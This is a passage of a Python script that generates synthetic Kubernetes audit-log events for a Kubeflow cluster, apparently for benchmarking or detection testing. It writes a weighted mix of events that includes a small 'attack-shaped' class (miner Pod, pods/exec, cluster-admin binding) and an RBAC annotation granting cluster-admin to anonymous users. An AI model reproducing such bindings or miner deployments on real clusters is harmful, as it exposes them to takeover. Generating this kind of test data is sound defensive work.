                                               "message": f'{res} is forbidden: User "system:anonymous" cannot list resource "{res}" in API group ""'
                                                          + (f' in the namespace "{target}"' if target else " at the cluster scope"),
                                               "reason": "Forbidden", "details": {"kind": res}, "code": 403}))
            self.emit(self.anonymous, "list", res, target, code=200 if allowed else 403, status=status,
                      annotations=self.anon_allow if allowed else self.anon_forbid)

    anon_allow = js({"authorization.k8s.io/decision": "allow",
                     "authorization.k8s.io/reason": 'RBAC: allowed by ClusterRoleBinding "anonymous-debug" of ClusterRole "cluster-admin" to User "system:anonymous"'})
    anon_forbid = js({"authorization.k8s.io/decision": "forbid", "authorization.k8s.io/reason": ""})

    # -- the mix -----------------------------------------------------------------------------------
    def scenarios(self):
        # (weight in % of events, group, name, function)
        return [
            (11.0, "control plane", "kubelet: update its node Lease", self.kubelet_lease),
            (1.0, "control plane", "kubelet: get its node Lease", self.kubelet_lease_get),
            (3.0, "control plane", "kubelet: patch nodes/status", self.kubelet_node_status),
            (4.5, "control plane", "kubelet: patch pods/status", self.kubelet_pod_status),
            (6.0, "control plane", "kubelet: watch/get ConfigMaps and Secrets", self.kubelet_config),
            (2.0, "control plane", "kubelet: get node, pods, watch services", self.kubelet_misc),
            (1.5, "control plane", "kubelet: create serviceaccounts/token", self.kubelet_token),
            (14.0, "control plane", "kube-controller-manager's controllers", self.kcm_controllers),
            (3.0, "control plane", "controllers: discovery GETs", self.discovery),
            (2.5, "control plane", "kube-controller-manager, kube-scheduler: leader election", self.leader_election),
            (2.0, "control plane", "kube-scheduler: pods/binding, informers", self.scheduler),
            (1.0, "control plane", "kube-controller-manager: informers", self.kcm_informers),
            (1.5, "control plane", "kube-apiserver: its Lease, kubernetes Service", self.apiserver_self),
            (2.5, "control plane", "kube-proxy, CoreDNS, metrics-server", self.node_agents),
            (5.0, "Kubeflow and add-ons", "leader-election Leases", self.kubeflow_leases),
            (4.0, "Kubeflow and add-ons", "notebook-controller", self.notebook_controller),
            (3.0, "Kubeflow and add-ons", "training-operator", self.training_operator),
            (4.0, "Kubeflow and add-ons", "Kubeflow Pipelines (API server, agents, cache, metadata)", self.pipelines),
            (4.0, "Kubeflow and add-ons", "Argo workflow-controller", self.argo_controller),
            (1.5, "Kubeflow and add-ons", "profiles controller", self.profiles_controller),
            (4.0, "Kubeflow and add-ons", "istiod", self.istio),
            (2.5, "Kubeflow and add-ons", "cert-manager, Knative, KServe", self.addons),
            (1.0, "Kubeflow and add-ons", "Katib", self.katib_controller),
            (3.5, "Kubeflow and add-ons", "web apps: SubjectAccessReviews, lists", self.web_apps),
            (3.0, "users", "users with kubectl: get/list, pods/log", self.user_reads),
            (2.0, "users", "notebooks' default-editor ServiceAccounts", self.editor_reads),
            (0.20, "creates with a requestObject", "Notebook (RequestResponse)", self.create_notebook),
            (0.40, "creates with a requestObject", "notebook StatefulSet/Service/VirtualService", self.create_notebook_children),
            (0.25, "creates with a requestObject", "notebook Pod by statefulset-controller", self.create_notebook_pod),
            (0.25, "creates with a requestObject", "TFJob", self.create_tfjob),
            (0.60, "creates with a requestObject", "TFJob Pod by training-operator", self.create_tfjob_pod),
            (0.30, "creates with a requestObject", "TFJob Service by training-operator", self.create_tfjob_service),
            (0.35, "creates with a requestObject", "Argo Workflow by ml-pipeline", self.create_workflow),
            (1.00, "creates with a requestObject", "workflow step Pod by Argo", self.create_argo_pod),
            (0.30, "creates with a requestObject", "Deployment Pod by replicaset-controller", self.create_deployment_pod),
            (0.10, "creates with a requestObject", "PVC by the Jupyter web app", self.create_pvc),
            (0.10, "attack-shaped", "miner Pod, pods/exec, LoadBalancer patch, cluster-admin binding, anonymous", self.attack),
        ]


def generate(n, seed, path):
    g = Gen(seed)
    table = g.scenarios()
    pick = g.weighted([(w, i) for i, (w, *_rest) in enumerate(table)])
    funcs = [t[3] for t in table]
    counts = [0] * len(table)
    written = 0
    with open(path, "w", encoding="ascii") as f:
        for k in range(n):
            # The first event is always an ordinary one (a 1-event file measures start-up).
            i = pick() if k else 0
            counts[i] += 1
            funcs[i]()
            if len(g.out) >= 4096:
                f.write("".join(g.out))
                written += len(g.out)
                g.out.clear()
        f.write("".join(g.out))
        g.out.clear()
    mix = {}
    groups = {}
    for (w, group, name, _), c in zip(table, counts):
        mix[f"{group}: {name}"] = c
        groups[group] = groups.get(group, 0) + c
    return g, mix, groups


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("events", type=int, help="how many events")
    ap.add_argument("out", help="the .jsonl file to write (reused when it is there for the same N, seed and script)")
    ap.add_argument("--seed", type=int, default=SEED)
    args = ap.parse_args()
    if args.events < 1:
        ap.error("N must be at least 1")
    h = script_hash()
    meta_path = args.out + ".meta.json"
    try:
        with open(meta_path) as f:
            old = json.load(f)
        if (old.get("events"), old.get("seed"), old.get("script")) == (args.events, args.seed, h) \
                and os.path.getsize(args.out) == old.get("bytes"):
            print(f"make_audit_events: {args.out}: reused ({old['events']:,} events, average "
                  f"{old['event_bytes']['mean']:,} bytes)", file=sys.stderr)
            print(args.out)
            return 0
    except (OSError, ValueError):
        pass
    os.makedirs(os.path.dirname(os.path.abspath(args.out)), exist_ok=True)
    tmp = args.out + ".tmp"
    t0 = time.monotonic()
    g, mix, groups = generate(args.events, args.seed, tmp)
    seconds = time.monotonic() - t0
    sizes = sorted(g.sizes)
    n = len(sizes)
    total = os.path.getsize(tmp)

    def q(p):
        return sizes[min(n - 1, int(p * n))]

    levels, verbs = {}, {}
    for (level, verb), c in g.level_verb.items():
        levels[level] = levels.get(level, 0) + c
        verbs[verb] = verbs.get(verb, 0) + c
    meta = {
        "events": n, "bytes": total, "seed": args.seed, "script": h, "generate_seconds": round(seconds, 1),
        "event_bytes": {"mean": round(sum(sizes) / n), "p10": q(0.10), "median": q(0.5), "p90": q(0.90),
                        "p99": q(0.99), "max": sizes[-1]},
        "groups": {k: v for k, v in sorted(groups.items(), key=lambda kv: -kv[1])},
        "levels": dict(sorted(levels.items(), key=lambda kv: -kv[1])),
        # Request and RequestResponse events are the ones with a requestObject.
        "level_mean_bytes": {k: round(g.level_bytes[k] / v) for k, v in sorted(levels.items(), key=lambda kv: -kv[1])},
        "verbs": dict(sorted(verbs.items(), key=lambda kv: -kv[1])),
        "mix": mix,
        "start": g.stamp(START * 1_000_000), "end": g.stamp(g.t),
    }
    with open(meta_path + ".tmp", "w") as f:
        json.dump(meta, f, indent=2)
        f.write("\n")
    os.replace(tmp, args.out)
    os.replace(meta_path + ".tmp", meta_path)
    pct = lambda c: f"{100.0 * c / n:.2f} %"  # noqa: E731
    print(f"make_audit_events: {n:,} events, {total / 1e6:,.1f} MB, average {meta['event_bytes']['mean']:,} bytes "
          f"(median {meta['event_bytes']['median']:,}, 10-90 % {meta['event_bytes']['p10']:,}-{meta['event_bytes']['p90']:,}, "
          f"max {meta['event_bytes']['max']:,}) in {seconds:.1f} s", file=sys.stderr)
    print("  groups: " + ", ".join(f"{k} {v:,} ({pct(v)})" for k, v in meta["groups"].items()), file=sys.stderr)
    print("  levels: " + ", ".join(f"{k} {v:,} (average {meta['level_mean_bytes'][k]:,} bytes)"
                                   for k, v in meta["levels"].items()), file=sys.stderr)
    print("  verbs:  " + ", ".join(f"{k} {v:,}" for k, v in meta["verbs"].items()), file=sys.stderr)
    print(args.out)
    return 0


if __name__ == "__main__":
    sys.exit(main())
